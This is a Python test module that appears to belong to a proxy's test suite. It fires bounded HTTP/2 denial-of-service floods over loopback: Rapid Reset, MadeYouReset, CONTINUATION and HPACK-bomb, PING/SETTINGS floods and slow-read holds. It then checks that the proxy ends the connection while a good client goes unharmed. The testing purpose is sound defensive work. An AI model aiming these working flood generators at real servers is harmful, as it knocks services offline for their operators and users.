"""HTTP/2 that means no good, beside a client that must not notice. FRONT chooses who is attacked, ATTACK=NAME takes one.

Each attack tells what the target did (GOAWAY and its code, closed, still open) and how its memory and the good client fared.
All loops are bounded, and all traffic stays on the loopback.
"""

import asyncio
import os
import socket
import ssl
import struct
import sys
import threading
import time

from harness import WORK, check, missing, nginx, note, rss, start, stop
from checks.protocols import HERE, Front, Origins, certificates, ready

HOST = "h1.test"


class Raw:
    """A socket that writes frames and understands just enough of the answers."""

    def __init__(self, port, tls=False, preface=True, own=None, host="127.0.0.1", timeout=10, settle=True):
        import hpack
        from peers import wire
        self.wire, self.encoder = wire, hpack.Encoder()
        self.socket = socket.create_connection((host, port), timeout=timeout)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if tls:
            from peers import client
            self.socket = client.context(None, ["h2"]).wrap_socket(self.socket, server_hostname=HOST)
        self.buffer, self.frames, self.goaway, self.closed, self.resets, self.heads = b"", 0, None, False, {}, {}
        self.decoder, self.bodies, self.acks, self.error = hpack.Decoder(), {}, 0, None
        self.decoder.max_header_list_size = 1 << 20
        self.sent = 0
        if preface:
            self.send(wire.PREFACE + wire.settings(own or {}))
            if settle:
                self.read(5, lambda: self.settled)

    settled = False

    def send(self, data):
        """False when the other side has closed."""
        if self.closed:
            return False
        try:
            self.socket.sendall(data)
            self.sent += len(data)
            return True
        except (OSError, ssl.SSLError) as error:
            self.closed, self.error = True, error
            return False

    def frame(self, kind, flags=0, stream=0, payload=b""):
        return self.send(self.wire.frame(kind, flags, stream, payload))

    def head(self, path="/count", method="GET", host=HOST, more=(), scheme="http"):
        return self.encoder.encode([(":method", method), (":scheme", scheme), (":authority", host), (":path", path), *more])

    def request(self, stream, path="/count", end=True, **options):
        return self.frame(self.wire.HEADERS, self.wire.END_HEADERS | (self.wire.END_STREAM if end else 0), stream, self.head(path, **options))

    def read(self, seconds, done=lambda: False, acknowledge=True):
        """Takes frames until `done`, a close, or the time is over."""
        w, limit = self.wire, time.time() + seconds
        while not done() and time.time() < limit:
            self.socket.settimeout(max(0.001, min(0.2, limit - time.time())))
            try:
                part = self.socket.recv(65536)
            except (socket.timeout, ssl.SSLWantReadError):
                continue
            except OSError as error:
                self.closed, self.error = True, error
                break
            if not part:
                self.closed = True
                break
            self.buffer += part
            while len(self.buffer) >= 9:
                length = int.from_bytes(self.buffer[:3], "big")
                if len(self.buffer) < 9 + length:
                    break
                kind, flags, number = self.buffer[3], self.buffer[4], int.from_bytes(self.buffer[5:9], "big") & 0x7fffffff
                payload, self.buffer = self.buffer[9:9 + length], self.buffer[9 + length:]
                self.frames += 1
                if kind == w.GOAWAY:
                    self.goaway = struct.unpack(">I", payload[4:8])[0]
                elif kind == w.RST_STREAM:
                    self.resets[number] = struct.unpack(">I", payload)[0]
                elif kind == w.HEADERS:
                    try:
                        self.heads.setdefault(number, []).append({n: v for n, v in self.decoder.decode(payload)})
                    except Exception:
                        self.heads.setdefault(number, []).append({})
                elif kind == w.DATA:
                    self.bodies[number] = self.bodies.get(number, b"") + payload
                elif kind == w.SETTINGS:
                    self.settled = True
                    if flags & w.ACK:
                        self.acks += 1
                    elif acknowledge:
                        self.frame(w.SETTINGS, w.ACK)
        return done()

    def status(self, stream=1):
        heads = self.heads.get(stream)
        return int(heads[0].get(":status", 0)) if heads else None

    def verdict(self, seconds=2):
        """What became of the connection."""
        self.read(seconds, lambda: self.closed)
        said = f"GOAWAY {self.wire.code(self.goaway)}, " if self.goaway is not None else ""
        return said + ("closed" if self.closed else "open")

    def close(self):
        self.socket.close()


class Good(threading.Thread):
    """A client of good will, over HTTP/2 and HTTP/1.1: a request every 20 ms on one connection each."""

    def __init__(self, front, up="h1"):
        super().__init__(daemon=True)
        self.up, self.front, self.ended, self.failures, self.times = up, front, threading.Event(), [], []
        self.start()

    def run(self):
        asyncio.run(self._run())

    async def _run(self):
        from peers import client
        root = certificates().file("root.crt")
        ways = [client.connect("h2", self.front.port("h2", self.up)),
                client.connect("tls-h1", self.front.port("tls-h1", self.up), root, f"{self.up}.test")]
        ways = [await way for way in ways]
        while not self.ended.is_set():
            for way in ways:
                began = time.time()
                try:
                    got = await client.request(way, "GET", f"{self.up}.test", "/bytes?n=2000", seconds=10)
                    if got.status != 200 or len(got.body) != 2000:
                        self.failures.append(repr(got))
                        if len(self.failures) > 3:
                            return
                except Exception as error:
                    self.failures.append(repr(error))
                    return
                self.times.append(time.time() - began)
            await asyncio.sleep(0.02)
        for way in ways:
            await way.close()

    def stop(self):
        self.ended.set()
        self.join(15)
        slow = sorted(self.times)
        return not self.failures and bool(slow), \
            f"{len(slow)} requests, p99 {slow[int(len(slow) * 0.99)] * 1000:.0f} ms, longest {slow[-1] * 1000:.0f} ms" if slow else "none", \
            self.failures[:2]


def flooding(connection, one, count, chunk=50, seconds=15, read=True):
    """Sends `one(index)` up to count times, reading now and then; how many went out before it ended."""
    end, sent = time.time() + seconds, 0
    while sent < count and time.time() < end:
        if not connection.send(b"".join(one(sent + i) for i in range(chunk))):
            break
        sent += chunk
        if read:
            connection.read(0.001, lambda: connection.closed or connection.goaway is not None)
            if connection.closed or connection.goaway is not None:
                break
    return sent


# ---------------------------------------------------------------- floods: (what was sent, whether the connection must end)

def rapid_reset(front, raw):
    """Streams opened and cancelled at once (CVE-2023-44487)."""
    block = raw.head("/delay?seconds=5")
    w = raw.wire
    sent = flooding(raw, lambda i: w.frame(w.HEADERS, w.END_HEADERS | w.END_STREAM, 2 * i + 1, block if i == 0 else raw.head("/delay?seconds=5"))
                    + w.frame(w.RST_STREAM, 0, 2 * i + 1, struct.pack(">I", w.CANCEL)), 20000)
    return f"{sent} streams", True


def made_you_reset(front, raw):
    """Frames that make the server reset its own streams (CVE-2025-8671): a WINDOW_UPDATE of zero on an open stream."""
    w = raw.wire
    sent = flooding(raw, lambda i: w.frame(w.HEADERS, w.END_HEADERS, 2 * i + 1, raw.head("/delay?seconds=5", "POST"))
                    + w.frame(w.WINDOW_UPDATE, 0, 2 * i + 1, struct.pack(">I", 0)), 20000, chunk=20)
    return f"{sent} streams, {len(raw.resets)} reset by it", True


def made_you_reset_overflow(front, raw):
    """The same by a window beyond 2^31 - 1."""
    w = raw.wire
    sent = flooding(raw, lambda i: w.frame(w.HEADERS, w.END_HEADERS, 2 * i + 1, raw.head("/delay?seconds=5", "POST"))
                    + w.frame(w.WINDOW_UPDATE, 0, 2 * i + 1, struct.pack(">I", 0x7fffffff)), 20000, chunk=20)
    return f"{sent} streams, {len(raw.resets)} reset by it", True


def made_you_reset_half_closed(front, raw):
    """The same by DATA behind END_STREAM."""
    w = raw.wire
    sent = flooding(raw, lambda i: w.frame(w.HEADERS, w.END_HEADERS | w.END_STREAM, 2 * i + 1, raw.head("/delay?seconds=5"))
                    + w.frame(w.DATA, 0, 2 * i + 1, b"x"), 20000, chunk=20)
    return f"{sent} streams, {len(raw.resets)} reset by it", True


def bad_requests(front, raw):
    """Malformed requests without an end: each is reset or answered 400."""
    w = raw.wire
    block = lambda: raw.encoder.encode([(":method", "GET"), (":scheme", "http"), (":authority", HOST), (":path", "/"), ("connection", "x")])
    sent = flooding(raw, lambda i: w.frame(w.HEADERS, w.END_HEADERS | w.END_STREAM, 2 * i + 1, block()), 20000, chunk=20)
    return f"{sent} streams, {len(raw.resets)} reset by it", True


def continuation_flood(front, raw):
    """A header block that never ends (CVE-2024-27316)."""
    w = raw.wire
    raw.frame(w.HEADERS, 0, 1, raw.head())
    sent = flooding(raw, lambda i: w.frame(w.CONTINUATION, 0, 1, b"\x00\x04abcd\x7f\x00" + b"x" * 127 + b""), 50000, chunk=20)
    return f"{sent} frames, {raw.sent >> 10} KiB", True


def empty_continuation_flood(front, raw):
    w = raw.wire
    raw.frame(w.HEADERS, 0, 1, raw.head())
    sent = flooding(raw, lambda i: w.frame(w.CONTINUATION, 0, 1), 100000)
    return f"{sent} frames", True


def settings_flood(front, raw):
    w = raw.wire
    sent = flooding(raw, lambda i: w.frame(w.SETTINGS), 100000)
    return f"{sent} frames, {raw.acks} acknowledged", True


def settings_toggle(front, raw):
    """INITIAL_WINDOW_SIZE up and down with many streams open: each one touches all."""
    w = raw.wire
    for i in range(100):
        raw.request(2 * i + 1, "/delay?seconds=3")
    sent = flooding(raw, lambda i: w.settings({w.INITIAL_WINDOW_SIZE: 1 if i % 2 else 0x7fffffff}), 100000)
    return f"{sent} frames", True


def table_size_toggle(front, raw):
    w = raw.wire
    sent = flooding(raw, lambda i: w.settings({w.HEADER_TABLE_SIZE: 0 if i % 2 else 1 << 31}), 100000)
    return f"{sent} frames", True


def ping_flood(front, raw):
    w = raw.wire
    sent = flooding(raw, lambda i: w.frame(w.PING, 0, 0, b"abcdefgh"), 200000)
    return f"{sent} frames", True


def ping_flood_unread(front, raw):
    """The same, and the answers are never read."""
    w = raw.wire
    sent = flooding(raw, lambda i: w.frame(w.PING, 0, 0, b"abcdefgh"), 400000, chunk=200, read=False)
    return f"{sent} frames", True


def window_update_flood(front, raw):
    w = raw.wire
    sent = flooding(raw, lambda i: w.frame(w.WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)), 200000)
    return f"{sent} frames", True


def priority_flood(front, raw):
    w = raw.wire
    sent = flooding(raw, lambda i: w.frame(w.PRIORITY, 0, 2 * (i % 1000) + 1, struct.pack(">IB", 0, i % 256)), 200000)
    return f"{sent} frames", True


def empty_data_flood(front, raw):
    w = raw.wire
    raw.request(1, "/count", False, method="POST")
    sent = flooding(raw, lambda i: w.frame(w.DATA, 0, 1), 200000)
    return f"{sent} frames", True


def padded_data_flood(front, raw):
    """DATA that is nothing but padding."""
    w = raw.wire
    raw.request(1, "/count", False, method="POST")
    sent = flooding(raw, lambda i: w.frame(w.DATA, w.PADDED, 1, b"\x00"), 200000)
    return f"{sent} frames", True


def tiny_data_flood(front, raw):
    """A byte at a time: allowed, but must cost others nothing."""
    w = raw.wire
    raw.request(1, "/count", False, method="POST")
    sent = flooding(raw, lambda i: w.frame(w.DATA, 0, 1, b"x"), 60000)
    return f"{sent} frames", None


def unknown_flood(front, raw):
    sent = flooding(raw, lambda i: raw.wire.frame(0x7e, 0, 0, b"x"), 200000)
    return f"{sent} frames", True


def altsvc_flood(front, raw):
    sent = flooding(raw, lambda i: raw.wire.frame(0x0a, 0, 0, b"\x00\x00"), 200000)
    return f"{sent} frames", True


def hpack_bomb(front, raw):
    """One long field in the table, then thousands of references to it in one byte each."""
    w = raw.wire
    first = raw.head("/count", more=[("x-bomb", "b" * 3900)])
    raw.frame(w.HEADERS, w.END_HEADERS | w.END_STREAM, 1, first)
    sent = flooding(raw, lambda i: w.frame(w.HEADERS, w.END_HEADERS | w.END_STREAM, 2 * i + 3, raw.head("/count") + b"\xbe" * 8000), 500, chunk=5)
    answered = [raw.status(2 * i + 3) for i in range(5)]
    return f"{sent} heads of {8000 * 3900 >> 20} MiB each, answers {answered}", None


def huge_heads(front, raw):
    """A head of 200 KiB on each of many streams."""
    w = raw.wire
    block = b"\x00\x03xyz\x7f\x81\x7c" + b"v" * (127 + 1 + 124 * 128)
    big = raw.head() + block * 12
    def one(i):
        parts = [big[a:a + 16384] for a in range(0, len(big), 16384)]
        return b"".join(w.frame(w.HEADERS if k == 0 else w.CONTINUATION, (w.END_STREAM if k == 0 else 0) | (w.END_HEADERS if k == len(parts) - 1 else 0),
                                2 * i + 1, part) for k, part in enumerate(parts))
    sent = flooding(raw, one, 200, chunk=1)
    return f"{sent} heads of {len(big) >> 10} KiB, answers {[raw.status(1), raw.status(3)]}", None


def many_streams(front, raw):
    """More streams than are allowed."""
    for i in range(5000):
        if not raw.request(2 * i + 1, "/delay?seconds=3"):
            break
    raw.read(2, lambda: raw.closed)
    refused = sum(1 for c in raw.resets.values() if c == raw.wire.REFUSED_STREAM)
    return f"5000 streams, {refused} refused", None


def stream_dependency_loop(front, raw):
    w = raw.wire
    for i in range(1000):
        raw.frame(w.HEADERS, w.END_HEADERS | w.END_STREAM | w.WITH_PRIORITY, 2 * i + 1, struct.pack(">IB", 2 * i + 1, 1) + raw.head())
        if raw.closed:
            break
    return "1000 streams that depend on themselves", None


FLOODS = [rapid_reset, made_you_reset, made_you_reset_overflow, made_you_reset_half_closed, bad_requests, continuation_flood,
          empty_continuation_flood, settings_flood, settings_toggle, table_size_toggle, ping_flood, ping_flood_unread, window_update_flood,
          priority_flood, empty_data_flood, padded_data_flood, tiny_data_flood, unknown_flood, altsvc_flood, hpack_bomb, huge_heads,
          many_streams, stream_dependency_loop]


class Quick(Origins):
    """Behind HTTP/1.1 stands an nginx with 40 MB in /big; the good client talks to another origin, so that what is slow is the proxy."""

    def __init__(self):
        super().__init__()
        stop(self.child)
        rest = [a for kind in ("h2", "tls-h1", "tls-h2") for a in ("--" + kind, str(self.ports[kind]))]
        chain, key = certificates()["server"]
        self.child = start([sys.executable, os.path.join(HERE, "peers", "origin.py"), *rest, "--cert", chain, "--key", key, "--record", self.path])
        folder = os.path.join(WORK, "quick")
        os.makedirs(folder, exist_ok=True)
        with open(os.path.join(folder, "big"), "wb") as file:
            file.truncate(40_000_000)
        self.nginx = nginx({self.ports["h1"]: f"root {folder};"})


def _wanted(name):
    return os.environ.get("ATTACK", name) == name


def floods():
    if not ready():
        return
    with Front.chosen() as front:
        for attack in FLOODS:
            name = attack.__name__
            if not _wanted(name):
                continue
            good, before = Good(front), rss(front.pid())
            time.sleep(0.3)
            raw = Raw(front.port("h2", "h1"))
            began = time.time()
            what, must_end = attack(front, raw)
            took = time.time() - began
            verdict = raw.verdict(2)
            peak = rss(front.pid())
            raw.close()
            time.sleep(0.2)
            unhurt, how, failures = good.stop()
            ended = raw.closed or raw.goaway is not None
            check(f"{name}: {'ends the connection, and ' if must_end else ''}the good client does not notice",
                  unhurt and (ended or not must_end) and front.child.poll() is None,
                  f"{what} in {took:.1f} s; {verdict}; RSS {before} to {peak} KiB; good: {how} {failures or ''}")
    if not missing("nginx"):
        with Front.chosen(Quick()) as front:
            slow(front)
            stop(front.origins.nginx)


def slow(front):
    """What is held instead of flooded."""
    if _wanted("one_byte_windows"):
        good, before = Good(front, "h2"), rss(front.pid())
        held = []
        for _ in range(20):
            from peers import wire
            raw = Raw(front.port("h2", "h1"), own={wire.INITIAL_WINDOW_SIZE: 1})
            for i in range(50):
                raw.request(2 * i + 1, "/big")
            held.append(raw)
        time.sleep(3)
        after = rss(front.pid())
        unhurt, how, failures = good.stop()
        for raw in held:
            raw.close()
        check("one-byte windows on 1000 answers of 40 MB hold little memory", unhurt and after - before < 400_000,
              f"RSS {before} to {after} KiB; good: {how} {failures or ''}")
        time.sleep(1)
        note(f"RSS {rss(front.pid())} KiB after they left")
    if _wanted("no_window"):
        good, before = Good(front, "h2"), rss(front.pid())
        held = []
        for _ in range(20):
            raw = Raw(front.port("h2", "h1"))
            for i in range(10):
                raw.request(2 * i + 1, "/big")
                raw.frame(raw.wire.WINDOW_UPDATE, 0, 2 * i + 1, struct.pack(">I", 0x7fff0000 - 65535))
            raw.frame(raw.wire.WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7fff0000 - 65535))
            held.append(raw)
        time.sleep(3)
        after = rss(front.pid())
        unhurt, how, failures = good.stop()
        for raw in held:
            raw.close()
        check("open windows and a client that never reads hold little memory", unhurt and after - before < 400_000,
              f"200 answers of 40 MB; RSS {before} to {after} KiB; good: {how} {failures or ''}")
    if _wanted("slow_preface"):
        good = Good(front, "h2")
        sockets = []
        for i in range(200):
            raw = Raw(front.port("h2", "h1"), preface=False)
            raw.send(raw.wire.PREFACE[:1 + i % 23])
            sockets.append(raw)
        time.sleep(2)
        unhurt, how, failures = good.stop()
        ended = 0
        for raw in sockets:
            raw.read(0.01, lambda: raw.closed)
            ended += raw.closed
            raw.close()
        check("200 connections with a part of the preface", unhurt, f"{ended} closed after 2 s; good: {how} {failures or ''}")
    if _wanted("wrong_preface"):
        seen = []
        for data in (b"PRI * HTTP/2.0\r\n\r\nXX\r\n\r\n", b"PRI / HTTP/2.0\r\n\r\nSM\r\n\r\n", b"PRI * HTTP/2.0\r\nhost: a\r\n\r\nSM\r\n\r\n",
                     b"PRI * HTTP/1.1\r\nhost: a\r\n\r\n"):
            raw = Raw(front.port("h1", "h1"), preface=False)
            raw.send(data)
            raw.read(2, lambda: raw.closed)
            seen.append(raw.buffer[:30] or raw.verdict(0))
            raw.close()
        check("prefaces that are none are refused", all(b" 200 " not in bytes(s, "latin-1") if isinstance(s, str) else b" 200 " not in s for s in seen), seen)
